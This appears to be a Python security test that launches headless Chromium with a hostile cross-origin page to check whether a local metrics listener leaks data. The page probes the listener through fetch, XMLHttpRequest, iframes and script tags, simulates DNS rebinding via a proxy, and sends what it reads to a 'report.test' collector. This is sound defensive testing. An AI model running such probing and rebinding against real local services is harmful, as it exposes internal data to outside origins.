"""What can a web page read of the metrics listener, in a browser on the server's machine?

A page of another origin, in headless Chromium: it asks for each path by every way that a page has, at the listener's
address, at names that resolve to it, and at its own name when that has come to mean the listener (DNS rebinding). The
browser's own guard of local networks does not count: to it the page is a local one.
"""

import http.client
import http.server
import json
import subprocess
import tempfile
import threading

PATHS = ("/metrics", "/metrics.json", "/debug/vars", "/health?verbose")

# Every answer that the page can read goes to /report, by what it asked for.
PAGE = """<!doctype html><title>elsewhere</title><script>
const found = {}, targets = TARGETS
function late() { return new Promise((_, reject) => setTimeout(() => reject('no answer'), 4000)) }
let count = 0
// Each by a URL of its own: the browser's cache lets requests of one wait for each other.
async function read(way, url, ask) {
  const own = url + (url.includes('?') ? '&' : '?') + 'n=' + count++
  try { found[way + ' ' + url] = await Promise.race([ask(own), late()]) }
  catch (error) { found[way + ' ' + url] = {refused: String(error)} }
}
async function text(url, options) {
  const answer = await fetch(url, options)
  return {status: answer.status, type: answer.type, text: await answer.text()}
}
function request(url) {
  return new Promise((resolve, reject) => {
    const request = new XMLHttpRequest()
    request.onload = () => resolve({status: request.status, text: request.responseText})
    request.onerror = () => reject('XMLHttpRequest')
    request.open('GET', url)
    request.send()
  })
}
function framed(url) {
  return new Promise((resolve, reject) => {
    const frame = document.createElement('iframe')
    frame.onload = () => {
      try { resolve({text: frame.contentDocument.documentElement.innerText}) } catch (error) { reject(error) }
    }
    frame.src = url
    document.body.append(frame)
  })
}
function script(url) {
  return new Promise((resolve, reject) => {
    const script = document.createElement('script')
    const before = new Set(Object.keys(window))
    script.onload = () => resolve({text: JSON.stringify(Object.keys(window).filter(key => !before.has(key)))})
    script.onerror = () => reject('script')
    script.src = url
    document.body.append(script)
  })
}
function all(url) {
  return Promise.all([
    read('fetch', url, url => text(url)),
    read('fetch with cookies', url, url => text(url, {credentials: 'include'})),
    read('fetch without CORS', url, url => text(url, {mode: 'no-cors'})),
    read('XMLHttpRequest', url, request),
    read('frame', url, framed),
    read('script', url, script),
  ])
}
function withPassword(url) {
  return read('fetch with the password', url, url => text(url, {headers: {Authorization: 'PASSWORD'}}))
}
window.onload = async () => {
  await Promise.all(targets.map(withPassword))
  await Promise.all(targets.filter(url => !['/metrics', '/known/metrics'].includes(url)).map(all))
  // Where it asks for a password the browser does so as well, and holds the page's connections until it has one.
  await all('/metrics')
  const to = 'http://report.test:' + location.port + '/report'
  await fetch(to, {method: 'POST', mode: 'no-cors', body: JSON.stringify(found)})
}
</script><body></body>"""


class Elsewhere(http.server.BaseHTTPRequestHandler):
    """The page's server. When its name has come to mean the listener, that gets what the browser sends, as it is."""

    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def answer(self, status, fields, body):
        self.send_response_only(status)
        for name, value in fields:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        if self.path == "/page":
            return self.answer(200, [("Content-Type", "text/html")], self.server.page.encode())
        fields = {name: value for name, value in self.headers.items()}
        # What the page could read if the listener did not look at Host: the test sees it, so it would see a leak.
        path = self.path.removeprefix("/known")
        if path != self.path:
            fields["Host"] = "localhost"
        connection = http.client.HTTPConnection("127.0.0.1", self.server.listener, timeout=30)
        connection.putrequest("GET", path, skip_host=True, skip_accept_encoding=True)
        for name, value in fields.items():
            connection.putheader(name, value)
        connection.endheaders()
        response = connection.getresponse()
        body = response.read()
        left_out = ("content-length", "transfer-encoding", "connection")
        self.answer(response.status, [field for field in response.getheaders() if field[0].lower() not in left_out], body)
        connection.close()

    def do_POST(self):
        self.server.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.answer(204, [], b"")
        self.server.reported.set()


def browser(*arguments):
    """The command of a browser that leaves nothing behind; its folder is the last argument's."""
    return [
        "chromium", "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", *arguments,
    ]


def seen(url):
    """What a browser shows at a URL."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as folder:
        done = subprocess.run(
            browser(f"--user-data-dir={folder}", "--timeout=20000", "--dump-dom", url),
            capture_output=True, text=True, timeout=120)
    return done.stdout


def report(listener, password, port_names=("127.0.0.1", "localhost", "attacker.test")):
    """What the page has read, by what it asked for."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    server.daemon_threads = True
    own = server.server_address[1]
    targets = [f"http://{name}:{listener}{path}" for name in port_names for path in PATHS]
    targets += [*PATHS, *("/known" + path for path in PATHS)]
    server.page = PAGE.replace("TARGETS", json.dumps(targets)).replace("PASSWORD", password)
    server.listener, server.reported, server.report = listener, threading.Event(), None
    threading.Thread(target=server.serve_forever, daemon=True).start()
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as folder:
        process = subprocess.Popen(
            browser(
                f"--user-data-dir={folder}", "--host-resolver-rules=MAP *.test 127.0.0.1",
                "--remote-debugging-port=0", f"http://rebound.test:{own}/page"),
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            assert server.reported.wait(120), "the page reports nothing"
        finally:
            process.terminate()
            process.wait(timeout=30)
            server.shutdown()
            server.server_close()
    return server.report
